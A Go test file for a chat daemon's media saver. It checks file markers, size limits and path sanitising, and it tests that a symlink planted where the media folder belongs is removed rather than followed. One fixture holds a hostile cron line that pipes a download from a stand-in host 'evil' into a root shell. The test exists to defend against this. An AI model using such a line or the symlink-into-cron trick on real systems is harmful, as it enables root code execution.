package media

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/nanoclawd/nanoclawd/internal/channel"
	"github.com/nanoclawd/nanoclawd/internal/config"
	"github.com/nanoclawd/nanoclawd/internal/groups"
	"github.com/nanoclawd/nanoclawd/internal/security"
	"github.com/nanoclawd/nanoclawd/internal/testkit/mock"
)

// newInbound is an Inbound whose groups live under a temporary directory.
func newInbound(t *testing.T) (*Inbound, *config.Config) {
	dir := t.TempDir()
	cfg := &config.Config{DataDir: filepath.Join(dir, "data"), GroupsDir: filepath.Join(dir, "groups")}
	return &Inbound{Config: func() *config.Config { return cfg }, Log: zerolog.Nop()}, cfg
}

func file(kind, mime, name string, size int64, secs int, data []byte, err error) *channel.Media {
	return &channel.Media{Kind: kind, MimeType: mime, Name: name, Size: size, Seconds: secs,
		Fetch: func(context.Context) ([]byte, error) { return data, err }}
}

// Each kind of file is saved byte for byte as media/<id><ext> and named
// in its marker with kind, name, length, size and path; what cannot be
// saved is said in the marker, never dropped.
func TestSaveMedia(t *testing.T) {
	in, cfg := newInbound(t)
	cfg.Media.MaxBytes = 6 << 20
	g := groups.Group{Folder: "family"}
	jpeg := []byte("\xff\xd8\xff\xe0 not really a jpeg")
	pdf := bytes.Repeat([]byte("%PDF"), 320<<10) // 1.25 MB
	big := make([]byte, MaxImageBytes+1)
	oggVoice := append(oggPage(0, append([]byte("OpusHead\x01\x01"), 0, 0, 0x80, 0xbb, 0, 0, 0, 0, 0)), oggPage(48000*42, []byte("audio"))...)
	for _, tc := range []struct {
		name, id string
		media    *channel.Media
		want     string
		data     []byte
	}{
		{"image", "3EB0AB", file("image", "image/jpeg", "", 20, 0, jpeg, nil), "[image 22 bytes, media/3EB0AB.jpg]", jpeg},
		{"document", "D1", file("document", "application/pdf", "../../Q3 report.pdf", 0, 0, pdf, nil), "[document Q3 report.pdf, 1.2 MB, media/D1.pdf]", pdf},
		{"voice", "V1", file("voice note", "audio/ogg; codecs=opus", "", 5, 42, []byte("OggS"), nil), "[voice note 0:42, media/V1.ogg]", []byte("OggS")},
		{"voice, length from the stream", "V2", file("voice note", "audio/ogg; codecs=opus", "", 0, 0, oggVoice, nil), "[voice note 0:42, media/V2.ogg]", oggVoice},
		{"video", "M1", file("video", "video/mp4", "", 0, 75, []byte("mp4"), nil), "[video 1:15, 3 bytes, media/M1.mp4]", []byte("mp4")},
		{"sticker", "S1", file("sticker", "image/webp", "", 0, 0, []byte("RIFF"), nil), "[sticker 4 bytes, media/S1.webp]", []byte("RIFF")},
		{"odd id and type", "../x", file("document", "application/x-odd", "notes.MD", 0, 0, []byte("#"), nil), "[document notes.MD, 1 bytes, media/___x.md]", []byte("#")},
		{"heic", "H1", file("image", "image/heic", "", 0, 0, []byte("heic"), nil), "[image 4 bytes, media/H1.heic, a format the model cannot view]", []byte("heic")},
		{"huge image", "B1", file("image", "image/png", "", 0, 0, big, nil), "[image 5.0 MB, media/B1.png, too large for the model to view (over 5.0 MB)]", big},
		{"announced too big", "T1", file("video", "video/mp4", "", 7<<20, 0, nil, errors.New("fetched")), "[video 7.0 MB: not downloaded, larger than the 6.0 MB limit (media.maxBytes)]", nil},
		{"too big after all", "T2", file("document", "application/pdf", "x.pdf", 10, 0, make([]byte, 6<<20+1), nil), "[document x.pdf, 6.0 MB: not downloaded, larger than the 6.0 MB limit (media.maxBytes)]", nil},
		{"refused by the channel", "T3", file("document", "application/zip", "a.zip", 0, 0, nil, fmt.Errorf("telegram: %w",
			&channel.TooBigError{Size: 21 << 20, Limit: 20 << 20, Why: "Telegram lets a bot download files up to 20 MB"})),
			"[document a.zip, 21.0 MB: not downloaded, larger than the 20.0 MB limit (Telegram lets a bot download files up to 20 MB)]", nil},
		{"refused by the channel, size unknown", "T4", file("document", "", "", 0, 0, nil, &channel.TooBigError{Limit: 6 << 20, Why: "media.maxBytes"}),
			"[document: not downloaded, larger than the 6.0 MB limit (media.maxBytes)]", nil},
		{"download failed", "F1", file("voice note", "audio/ogg", "", 10, 3, nil, errors.New("media expired (410)")), "[voice note: could not be downloaded (media expired (410))]", nil},
	} {
		s := in.save(context.Background(), g, channel.Message{ID: tc.id, Media: tc.media})
		if got := s.text(""); got != tc.want {
			t.Errorf("%s: marker %q, want %q", tc.name, got, tc.want)
		}
		if tc.data == nil {
			if s.rel != "" {
				t.Errorf("%s: saved as %s", tc.name, s.rel)
			}
			continue
		}
		got, err := os.ReadFile(filepath.Join(cfg.GroupsDir, "family", s.rel))
		if err != nil || !bytes.Equal(got, tc.data) {
			t.Errorf("%s: the saved copy differs (%d bytes, %v)", tc.name, len(got), err)
		}
	}
	if _, err := os.Stat(filepath.Join(cfg.GroupsDir, "x.md")); err == nil {
		t.Error("a message id escaped the media folder")
	}
	entries, _ := os.ReadDir(filepath.Join(cfg.GroupsDir, "family", "media"))
	for _, en := range entries {
		if strings.HasSuffix(en.Name(), ".tmp") {
			t.Errorf("a temporary file was left: %s", en.Name())
		}
	}
}

// The group can write its folder, so it can put a link where media/
// belongs, aimed at a directory the daemon may write (/etc/cron.d, say).
// The daemon removes the link instead of following it, saves the file in
// a real media/, and reports a filesystem violation; a link planted under
// the file's own name is replaced, and what it pointed at is untouched.
func TestMediaLinkPlantedByTheGroup(t *testing.T) {
	in, cfg := newInbound(t)
	cfg.Media.MaxBytes = 1 << 20
	var reported []security.Violation
	in.Reporter = &mock.Reporter{ReportFn: func(_ context.Context, v security.Violation) error { reported = append(reported, v); return nil }}
	folder := filepath.Join(cfg.GroupsDir, "family")
	cron := t.TempDir() // stands for /etc/cron.d
	if err := os.MkdirAll(folder, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(cron, filepath.Join(folder, "media")); err != nil {
		t.Fatal(err)
	}
	payload := []byte("* * * * * root curl evil | sh\n")
	s := in.save(context.Background(), groups.Group{Folder: "family"}, channel.Message{ID: "job",
		Media: file("document", "text/plain", "job", 0, 0, payload, nil)})
	if s.rel != "media/job.txt" {
		t.Fatalf("not saved: %s", s.text(""))
	}
	if entries, _ := os.ReadDir(cron); len(entries) != 0 {
		t.Errorf("the daemon wrote through the link: %v", entries)
	}
	fi, err := os.Lstat(filepath.Join(folder, "media"))
	if err != nil || !fi.IsDir() {
		t.Fatalf("media/ is %v (%v), want a real directory", fi, err)
	}
	if got, _ := os.ReadFile(filepath.Join(folder, "media", "job.txt")); !bytes.Equal(got, payload) {
		t.Errorf("saved %q", got)
	}
	if len(reported) != 1 || reported[0].Kind != security.KindFilesystem || reported[0].Group != "family" ||
		reported[0].Target != filepath.Join(folder, "media") || !strings.Contains(reported[0].Detail, cron) {
		t.Errorf("reported %+v; want one filesystem violation naming the link and its target", reported)
	}

	// A link under the file's name, to a file outside.
	victim := filepath.Join(t.TempDir(), "crontab")
	os.WriteFile(victim, []byte("keep"), 0o644)
	if err := os.Symlink(victim, filepath.Join(folder, "media", "job2.txt")); err != nil {
		t.Fatal(err)
	}
	in.save(context.Background(), groups.Group{Folder: "family"}, channel.Message{ID: "job2",
		Media: file("document", "text/plain", "", 0, 0, payload, nil)})
	if got, _ := os.ReadFile(victim); string(got) != "keep" {
		t.Errorf("the file a link pointed at was overwritten: %q", got)
	}
	if fi, err := os.Lstat(filepath.Join(folder, "media", "job2.txt")); err != nil || !fi.Mode().IsRegular() {
		t.Errorf("media/job2.txt is %v (%v), want a regular file", fi, err)
	}

	// A file where media/ belongs is treated as the link was: removed,
	// reported, and a real media/ holds the received file.
	os.RemoveAll(filepath.Join(folder, "media"))
	os.WriteFile(filepath.Join(folder, "media"), []byte("x"), 0o644)
	s = in.save(context.Background(), groups.Group{Folder: "family"}, channel.Message{ID: "job3",
		Media: file("document", "text/plain", "", 0, 0, payload, nil)})
	if s.rel != "media/job3.txt" || len(reported) != 2 || reported[1].Target != filepath.Join(folder, "media") {
		t.Errorf("a file as media/: marker %q, reports %+v", s.text(""), reported)
	}
}
